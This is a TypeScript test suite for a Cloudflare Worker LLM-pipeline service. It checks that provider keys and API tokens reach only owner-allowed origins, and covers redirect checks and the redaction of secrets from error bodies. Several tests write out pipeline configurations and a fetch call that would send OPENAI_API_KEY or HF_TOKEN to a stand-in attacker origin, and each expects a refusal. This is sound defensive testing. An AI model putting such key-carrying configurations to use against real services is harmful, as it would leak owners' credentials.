import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { createDefaultRegistry } from "../../../src/default-registry.js";
import { InferenceEndpointsLLM } from "../../../src/llms/providers/inference-endpoints-llm.js";
import { OpenAILLM } from "../../../src/llms/providers/openai-llm.js";
import { OpenAIEmbeddings } from "../../../src/llms/embeddings/openai-embeddings.js";
import { Pipeline } from "../../../src/pipeline/pipeline.js";
import { dumpPipeline } from "../../../src/pipeline/serialize.js";
import { LoadDataFromDicts } from "../../../src/steps/builtin/loaders/load-data-from-dicts.js";
import { GenerateEmbeddings } from "../../../src/tasks/embeddings-data/generate-embeddings.js";
import { TextGeneration } from "../../../src/tasks/text-generation/text-generation.js";
import type { LLM } from "../../../src/llms/llm.js";
import { workerServices } from "../../../bindings/worker-services.js";
import { postJson, workerHarness } from "../../support/worker-harness.js";
import { attackerOrigin, expectNoSecretReceived, received, refusal, SECRETS } from "./support.js";

const registry = createDefaultRegistry();

function chat(llm: LLM, name = "chat"): Pipeline {
  return new Pipeline({ name }).build(() => {
    new LoadDataFromDicts({ name: "load", data: [{ instruction: "hi" }] }).connect(new TextGeneration({ name: "generate", llm }));
  });
}

const pipelines = { chat: { build: () => chat(new OpenAILLM({ model: "gpt-4o-mini" }), "registered-chat") } };
const auth = { authorization: `Bearer ${SECRETS.API_TOKEN}` };
/** A deployment holding real secrets, with the API token set. */
const deployment = workerHarness({ registry, pipelines }, { env: { ...SECRETS }, headers: auth });

async function expectRefused(body: unknown, expected: RegExp[]): Promise<void> {
  const before = (await received()).length;
  for (const path of ["/v1/runs", "/v1/pipelines/validate"]) {
    const error = await refusal(await deployment.request(path, postJson(path === "/v1/runs" ? { use_cache: false, ...(body as object) } : body)));
    expect(error.status, error.message).toBe(400);
    for (const pattern of expected) expect(error.message).toMatch(pattern);
  }
  // Refused at validation: nothing at all was sent, let alone a secret.
  expect((await received()).length).toBe(before);
  await expectNoSecretReceived();
}

describe("secrets go only to origins the owner allowed", () => {
  it("refuses api_key_env: API_TOKEN, whatever the origin", async () => {
    const llm = new OpenAILLM({ model: "m", baseUrl: `${attackerOrigin()}/v1`, apiKeyEnv: "API_TOKEN" });
    await expectRefused({ pipeline: dumpPipeline(chat(llm)) }, [/Step 'generate'/, /api_key_env 'API_TOKEN'/, /PROVIDER_KEYS/]);
  });

  it("refuses api_key_env naming a variable that is not a declared provider key", async () => {
    const llm = new OpenAILLM({ model: "m", apiKeyEnv: "REDISPATCH_AFTER_SECONDS" });
    await expectRefused({ pipeline: dumpPipeline(chat(llm)) }, [/api_key_env 'REDISPATCH_AFTER_SECONDS'/, /PROVIDER_KEYS/]);
  });

  it("refuses a posted OpenAILLM whose base_url would carry OPENAI_API_KEY to another host", async () => {
    const llm = new OpenAILLM({ model: "m", baseUrl: `${attackerOrigin()}/v1` });
    await expectRefused({ pipeline: dumpPipeline(chat(llm)) }, [
      /Step 'generate' \(llm\.base_url\)/,
      /'OPENAI_API_KEY'/,
      new RegExp(attackerOrigin()),
      /ALLOWED_ORIGINS \(or OPENAI_BASE_URL\)/,
    ]);
  });

  it("refuses a registered pipeline pointed elsewhere by a runtime parameter alone", async () => {
    await expectRefused({ pipeline: "chat", parameters: { generate: { llm: { base_url: `${attackerOrigin()}/v1` } } } }, [
      /'OPENAI_API_KEY'/,
      new RegExp(attackerOrigin()),
    ]);
  });

  it("refuses InferenceEndpointsLLM with an hf_endpoint that would receive HF_TOKEN", async () => {
    const llm = new InferenceEndpointsLLM({ modelId: "meta-llama/Llama-3.1-8B-Instruct", hfEndpoint: attackerOrigin() });
    await expectRefused({ pipeline: dumpPipeline(chat(llm)) }, [/llm\.hf_endpoint/, /'HF_TOKEN'/, /HF_ENDPOINT/]);
  });

  it("refuses embeddings whose base_url would carry the key away", async () => {
    const pipeline = new Pipeline({ name: "embed" }).build(() => {
      new LoadDataFromDicts({ name: "load", data: [{ text: "hi" }] }).connect(
        new GenerateEmbeddings({ name: "embed", embeddings: new OpenAIEmbeddings({ model: "e", baseUrl: `${attackerOrigin()}/v1` }) }),
      );
    });
    await expectRefused({ pipeline: dumpPipeline(pipeline) }, [/Step 'embed' \(embeddings\.base_url\)/, /'OPENAI_API_KEY'/]);
  });

  it("stops an honest user from sending their OpenAI key to another provider they did not list", async () => {
    const llm = new OpenAILLM({ model: "meta-llama/Llama-3-70b", baseUrl: "https://api.together.xyz/v1" });
    await expectRefused({ pipeline: dumpPipeline(chat(llm)) }, [/https:\/\/api\.together\.xyz/, /ALLOWED_ORIGINS/]);
  });

  it("lets a keyless local server work once the owner lists it, and only then", async () => {
    const llm = new OpenAILLM({ model: "local", baseUrl: `${attackerOrigin()}/v1` });
    const body = postJson({ pipeline: dumpPipeline(chat(llm)) });
    const unlisted = workerHarness({ registry }, { env: { ALLOWED_ORIGINS: "" } });
    const refused = await refusal(await unlisted.request("/v1/pipelines/validate", body));
    expect(refused.status).toBe(400);
    expect(refused.message).toMatch(/loopback, link-local or private address; add .* to ALLOWED_ORIGINS/);
    const listed = workerHarness({ registry }, { env: { ALLOWED_ORIGINS: `https://api.together.xyz, ${attackerOrigin()}` } });
    expect((await listed.request("/v1/pipelines/validate", postJson({ pipeline: dumpPipeline(chat(llm)) }))).status).toBe(200);
  });

  it("enforces the rules again on every call, whatever validation let through", async () => {
    const services = workerServices({ ...env, ...SECRETS } as Env);
    const sent = (await received()).length;
    await expect(
      services.fetch(`${attackerOrigin()}/v1/chat/completions`, { method: "POST", headers: { authorization: `Bearer ${SECRETS.OPENAI_API_KEY}` }, body: "{}" }),
    ).rejects.toThrow(/would send the secret 'OPENAI_API_KEY'/);
    await expect(services.fetch(`${attackerOrigin()}/anything`)).rejects.toThrow(/loopback, link-local or private address/);
    expect((await received()).length).toBe(sent);
    // A step never reads API_TOKEN or other variables, only provider keys and base URLs.
    expect(services.secret("API_TOKEN")).toBeUndefined();
    expect(services.secret("REDISPATCH_AFTER_SECONDS")).toBeUndefined();
    expect(services.secret("OPENAI_API_KEY")).toBe(SECRETS.OPENAI_API_KEY);
    expect(services.binding("DATA")).toBeUndefined();
    expect(services.binding("API_TOKEN")).toBeUndefined();
    await expectNoSecretReceived();
  });

  it("checks every redirect hop: a listed origin cannot bounce a call to an unlisted private one", async () => {
    const services = workerServices({ ...env, ALLOWED_ORIGINS: attackerOrigin() } as Env);
    const unlisted = attackerOrigin().replace("127.0.0.1", "localhost");
    await expect(services.fetch(`${attackerOrigin()}/redirect?to=${encodeURIComponent(`${unlisted}/internal`)}`)).rejects.toThrow(
      /loopback, link-local or private/,
    );
    expect((await received()).some((r) => r.url === "/internal")).toBe(false);
  });

  it("redacts secret values from provider error bodies before any message is built from them", async () => {
    // The owner pointed OPENAI_BASE_URL at this server, so the key may go there; its error echoes headers.
    const ownerKey = "sk-owner-endpoint-key-0123456789";
    const services = workerServices({ ...env, OPENAI_API_KEY: ownerKey, OPENAI_BASE_URL: `${attackerOrigin()}/v1` } as Env);
    const response = await services.fetch(`${attackerOrigin()}/echo-error`, { headers: { authorization: `Bearer ${ownerKey}` } });
    expect(response.status).toBe(401);
    const text = await response.text();
    expect(text).not.toContain(ownerKey);
    expect(text).toContain("[redacted OPENAI_API_KEY]");
  });
});
